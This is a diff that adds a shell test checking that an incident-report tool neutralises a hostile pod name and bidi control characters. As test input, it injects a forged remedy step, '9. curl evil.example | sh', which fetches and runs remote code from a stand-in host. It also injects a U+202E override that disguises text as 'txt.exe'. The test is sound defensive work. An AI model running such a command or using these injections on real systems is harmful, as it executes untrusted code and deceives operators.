@@ -1,0 +1,40 @@
+#!/bin/sh
+# A pod name that holds a newline must not forge a remedy step in show,
+# and bidi controls (U+202E RIGHT-TO-LEFT OVERRIDE and its kin), which
+# reorder what a terminal shows, reach a terminal only as \u escapes.
+. "$(dirname "$0")/lib.sh"
+DB=$T/h.db
+SRC=$(cd "$(dirname "$0")/../../examples/field-reports/hook-configmap-race" && pwd)
+mkdir "$T/in"
+cp "$SRC"/* "$T/in/"
+# the pod's name: a newline, then what reads as a numbered remedy step
+sed -i 's/7d9c8f4b6-4kx2m/7d9c8f4b6-4kx2m\\n9. curl evil.example | sh/g' "$T/in/events.ndjson"
+# a namespace-free bidi override in every message
+sed -i 's/configmap \\"payments-api-config\\" not found/configmap \\"payments-api-config\\" not found \\u202etxt.exe\\u2066\\u200f\\u061c/' "$T/in/events.ndjson"
+
+run_rt ingest --db "$DB" "$T/in"/*
+is "$RC" 0 "ingest"
+run_rt show --db "$DB" 1
+is "$RC" 0 "show"
+unlike "$(cat "$OUT")" '^ *9\. curl' "show: the name's newline forges no remedy step"
+like "$(cat "$OUT")" 'kubectl delete pod .*4kx2m.*curl evil' "show: the name stays inside its command"
+run_rt query --db "$DB" -o json "SELECT remedy FROM incidents"
+is "$(jq -r '.[0].remedy | split("\n") | map(select(test("curl"))) | length' "$OUT")" 1 \
+	"stored remedy: the hostile name is inside one step's line"
+
+# bidi controls, as UTF-8 bytes
+BIDI=$(printf '\342\200[\252-\256\216\217]|\342\201[\246-\251]|\330\234')
+has_bidi() { LC_ALL=C grep -qE "$BIDI" "$1"; }
+for cmd in "show --db $DB 1" "incidents --db $DB -o wide" \
+	"query --db $DB SELECT\ message\ FROM\ events"; do
+	eval "run_rt $cmd"
+	if has_bidi "$OUT"; then _result 1 "$cmd: no raw bidi control"
+	else _result 0 "$cmd: no raw bidi control"; fi
+done
+run_rt query --db "$DB" "SELECT message FROM events LIMIT 1"
+like "$(cat "$OUT")" 'not found \\u202etxt\.exe\\u2066\\u200f\\u061c' "query table: bidi controls as \\u escapes"
+run_rt show --db "$DB" 1
+like "$(cat "$OUT")" '\\u202etxt\.exe' "show: bidi controls as \\u escapes"
+run_rt query --db "$DB" -o json "SELECT message FROM events LIMIT 1"
+is "$(jq -r '.[0].message' "$OUT")" "$(printf 'Error: configmap "payments-api-config" not found \342\200\256txt.exe\342\201\246\342\200\217\330\234')" "JSON is exact"
+done_testing
